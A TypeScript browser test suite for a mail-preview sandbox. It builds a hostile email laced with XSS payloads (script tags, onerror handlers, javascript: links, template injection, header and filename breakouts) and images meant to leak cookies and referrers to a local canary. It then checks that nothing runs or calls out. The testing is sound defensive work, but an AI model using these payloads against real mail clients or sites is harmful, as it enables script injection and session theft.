// A hostile mail against the real server, and a canary on another port that must hear nothing.
import type { BrowserContext, Page } from 'playwright-core';
import { expect } from 'vitest';
import { useBrowser } from '../support/browser.ts';
import { startTestSandbox } from '../support/sandbox.ts';
import { clicked, makeVectors, silentAlone, unclosed, type Vector } from '../web/support/hostile-html.ts';
import { startCanary } from './canary.ts';
import { listen } from './heard.ts';

const browserTest = useBrowser();

/**
 * A vector without a wall. Nothing opens a dialog: it would stop the page, and one in a frame makes Chromium 156 crash when
 * the page is closed. What waits for a click gets one.
 */
const barePage = ({ name, html }: Vector): string =>
  `<!doctype html><script>onload=()=>document.getElementById('${name}')?.dispatchEvent(` +
  `new MouseEvent('click',{bubbles:true,cancelable:true}))</script><body>${html.replaceAll(/;alert\('[^']*'\)/g, '')}`;

/** Each vector on a page of its own without a wall, and a page with all of these. */
const barePages = (vectors: readonly Vector[]): Map<string, string> =>
  new Map([
    ...vectors.map((vector): [string, string] => [vector.name, barePage(vector)]),
    ['all', vectors.map(({ name }) => `<iframe src="/${name}"></iframe>`).join('')],
  ]);

/** Images which ask that the server be told who looks, and from where. */
const indiscreet = (canary: string): Vector[] =>
  [
    { name: 'referrer', html: (url: string) => `<img referrerpolicy="unsafe-url" src="${url}">` },
    {
      name: 'referrer-meta',
      html: (url: string) => `<meta name="referrer" content="unsafe-url"><img src="${url}">`,
    },
    { name: 'credentials', html: (url: string) => `<img crossorigin="use-credentials" src="${url}">` },
  ].map(({ name, html }) => ({ name, isImage: true, html: html(`${canary}/${name}`) }));

/** A cookie as a login leaves it. Cookies know no ports: all servers of this machine get it, the canary too. */
const logIn = (context: BrowserContext, url: string): Promise<void> =>
  context.addCookies([{ name: 'login', value: 'secret', url, httpOnly: true, sameSite: 'Lax' }]);

/** The same vectors wherever text of the sender is shown. */
function makeMail(canary: string, vectors: readonly Vector[]): string {
  const text = [
    `<script src="${canary}/text-script"></script>`,
    `<img src="${canary}/text-img" onerror="alert(1)">`,
    `{@html '<img src=${canary}/text-template>'} {{constructor.constructor('alert(1)')()}}`,
    `javascript:alert(1) ${canary}/text-link`,
  ].join('\r\n');
  const name = `<img src='${canary}/name' onerror=alert(1)>.png`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="${canary}/svg-attached"/></svg>`;
  const page = `<script>alert(1)</script><img src="${canary}/html-attached">`;
  const invite = [
    'BEGIN:VCALENDAR',
    'BEGIN:VEVENT',
    `SUMMARY:<img src=${canary}/event onerror=alert(1)>`,
    'DTSTART:20260319T100000Z',
    `URL:javascript:alert(1)`,
    'END:VEVENT',
    'END:VCALENDAR',
  ].join('\r\n');
  const card = [
    'BEGIN:VCARD',
    'VERSION:3.0',
    `FN:<img src=${canary}/contact onerror=alert(1)>`,
    `PHOTO;VALUE=uri:${canary}/photo`,
    `URL:javascript:alert(1)`,
    'END:VCARD',
  ].join('\r\n');
  const attached = (type: string, filename: string, body: string): string[] => [
    '--b',
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${filename}"`,
    `Content-ID: <"><img src=${canary}/cid>`,
    '',
    body,
  ];
  return [
    `From: "<img src=${canary}/from>" <a@b.example>`,
    'To: c@d.example',
    `Subject: <script src=${canary}/subject></script><img src=${canary}/subject-img onerror=alert(1)>`,
    `X-Own: <img src=${canary}/header onerror=alert(1)>`,
    `Received: from <img src=${canary}/received> by x; Thu, 12 Mar 2026 14:20:00 +0000`,
    `List-Unsubscribe: <${canary}/unsubscribe>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: multipart/alternative; boundary=a',
    '',
    '--a',
    'Content-Type: text/plain',
    '',
    text,
    '--a',
    'Content-Type: text/html',
    '',
    `<p id="top">hostile</p>`,
    ...vectors.map(({ html }) => html),
    '<p id="end">end</p>',
    unclosed(canary),
    '--a--',
    ...attached('image/svg+xml', name, svg),
    ...attached('text/html', `${canary}/page.html`, page),
    ...attached('image/png', '\\"><script>alert(1)</script>.png', svg),
    ...attached('text/calendar', 'invite.ics', invite),
    ...attached('text/vcard', 'card.vcf', card),
    '--b--',
    '',
  ].join('\r\n');
}

browserTest(
  'the ways in are a hundred, and what a browser of today knows of them is heard where there is no wall',
  { timeout: 90_000 },
  async (browser) => {
    await using canary = await startCanary();
    const vectors = makeVectors(canary.url);
    const names = vectors.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.length).toBeGreaterThanOrEqual(100);
    const known = names.filter((name) => !silentAlone.includes(name));
    expect(known.length).toBeGreaterThanOrEqual(75);
    const pages = barePages(vectors.filter(({ name }) => known.includes(name)));
    await using bare = await startCanary(pages);

    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const page = await context.newPage();
      const ran = listen(context);
      await logIn(context, bare.url);
      await page.goto(`${bare.url}/all`, { waitUntil: 'commit' });
      const isHeard = (name: string): boolean =>
        ran.includes(`RAN:${name}`) || [...canary.hits].some((hit) => hit.split('/')[0] === name);
      await expect.poll(() => known.filter((name) => !isHeard(name)), { timeout: 40_000 }).toEqual([]);
      const { headers } = canary.requests.find(({ name }) => name === 'img')!;
      expect([headers.referer, headers.cookie]).toEqual([`${bare.url}/`, 'login=secret']);
    } finally {
      await context.close();
    }
  },
);

browserTest(
  'a hostile mail runs nothing and asks nobody, in any tab; when asked, its images are loaded and nothing else',
  { timeout: 90_000 },
  async (browser) => {
    await using canary = await startCanary();
    await using elsewhere = await startCanary(
      new Map([['opened', "<script>console.log('RAN:opened');alert('RAN:asked')</script>"]]),
    );
    await using sandbox = await startTestSandbox();
    const vectors = [
      // In front, since what comes later swallows what follows it.
      { name: 'opens', isImage: false, html: `<a id="opens" href="${elsewhere.url}/opened">open</a>` },
      ...makeVectors(canary.url),
      ...indiscreet(canary.url),
    ];
    const raw = makeMail(canary.url, vectors);
    const images = vectors.filter(({ isImage }) => isImage).map(({ name }) => name);
    await using wire = await sandbox.wire();
    await wire.hello();
    expect(await wire.mail(raw)).toMatch(/^250/);

    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const page = await context.newPage();
      const ran = listen(context);
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      /** What the mail asked of our own server. */
      const own = new Set<string>();
      page.on('response', (answer) => {
        if (answer.frame() !== page.mainFrame() && answer.url().startsWith(sandbox.url))
          own.add(new URL(answer.url()).pathname);
      });
      const opened: Page[] = [];
      context.on('page', (other) => opened.push(other));
      const { id } = await sandbox.client.readMessage({ params: { id: 'latest' } });
      const frame = page.frameLocator('iframe');
      await page.goto(`${sandbox.url}/inbox/${id}/preview`);
      await frame.locator('#end').waitFor();
      await page.waitForLoadState('networkidle');
      for (const name of clicked) {
        const place = frame.locator(`#${name}`);
        await (name === 'area' ? place.dispatchEvent('click') : place.click({ force: true }));
      }
      for (const choice of [
        'As on a phone, 390 pixels',
        'No images',
        'Plain text part',
        'Show it as a dark mail client does',
      ])
        await page.getByRole('button', { name: choice }).click();
      await frame.locator('body').waitFor();
      for (const tab of ['text', 'headers', 'structure', 'source', 'attachments', 'envelope', 'links']) {
        await page.goto(`${sandbox.url}/inbox/${id}/${tab}`);
        await page.getByRole('navigation', { name: 'Parts of the message' }).waitFor();
        for (const closed of await page.locator('.body details:not([open]) > summary').all())
          await closed.click();
        await page.waitForLoadState('networkidle');
      }
      await page.goto(`${sandbox.url}/inbox/compare/${id}/${id}`);
      await page.getByText('They are the same').waitFor();
      expect([...canary.hits]).toEqual([]);
      expect(canary.connections()).toBe(0);
      expect(ran).toEqual([]);
      expect([...own]).toEqual([`/mail/${id}`]);
      expect(await context.cookies()).toEqual([]);

      await logIn(context, canary.url);
      await page.goto(`${sandbox.url}/inbox/${id}/preview`);
      await page.getByText(/remote images blocked/).waitFor();
      await page.getByRole('button', { name: 'Load images' }).click();
      await frame.locator('#end').waitFor();
      await expect
        .poll(() => images.filter((name) => !canary.hits.has(name)), { timeout: 20_000 })
        .toEqual([]);
      expect([...canary.hits].sort()).toEqual([...images].sort());
      const told = canary.requests.filter(
        ({ headers }) => headers.referer !== undefined || headers.cookie !== undefined,
      );
      expect(told).toEqual([]);
      expect(ran).toEqual([]);
      expect(errors).toEqual([]);
      expect(page.url()).toBe(`${sandbox.url}/inbox/${id}/preview`);
      for (const other of opened) expect(other.url()).not.toContain(canary.url);

      // A link that is followed opens a window without our wall, and what runs there is heard.
      await frame.locator('#opens').click();
      await expect.poll(() => ran, { timeout: 20_000 }).toEqual(['RAN:opened', 'RAN:asked']);
    } finally {
      await context.close();
    }
  },
);
